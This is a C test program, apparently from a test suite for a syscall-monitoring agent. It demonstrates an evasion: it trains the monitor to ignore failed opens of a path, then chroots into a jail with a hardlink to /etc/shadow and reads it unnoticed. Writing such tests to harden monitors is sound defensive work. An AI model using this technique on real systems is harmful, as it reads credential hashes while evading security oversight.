/* The attacker hides a read of /etc/shadow behind chroot. JAIL holds a hardlink of
 * /etc/shadow named NAME (as /tmp/jail/s); the program opens "/NAME" (no such file for
 * the agent: a failed open nobody needs the exit of) until the agent skips those
 * exits, then chroot(JAIL) and opens "/NAME" again: /etc/shadow for the kernel, still
 * "no such file" if the agent looked the path up in its own root.
 * Usage: chrootread JAIL NAME COUNT. Opens "/NAME" COUNT times, says "seen", waits
 * for a line on stdin (the verdicts reach the core), opens it COUNT times more, then
 * chroots and prints "shadow N": the reads of the file done. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    char path[256], buf[64], line[16];
    snprintf(path, sizeof path, "/%s", argv[2]);
    int count = atoi(argv[3]), reads = 0;
    for (int round = 0; round < 2; round++) {
        for (int i = 0; i < count; i++) {
            int fd = open(path, O_RDONLY);
            if (fd >= 0) close(fd);
            usleep(200); /* verdicts pushed meanwhile are used in this round */
        }
        if (round) break;
        printf("seen\n");
        fflush(stdout);
        if (!fgets(line, sizeof line, stdin)) return 2;
    }
    if (chroot(argv[1]) != 0) return perror("chroot"), 3;
    for (int i = 0; i < count; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        if (read(fd, buf, sizeof buf) > 0) reads++;
        close(fd);
    }
    printf("shadow %d\n", reads);
    return 0;
}
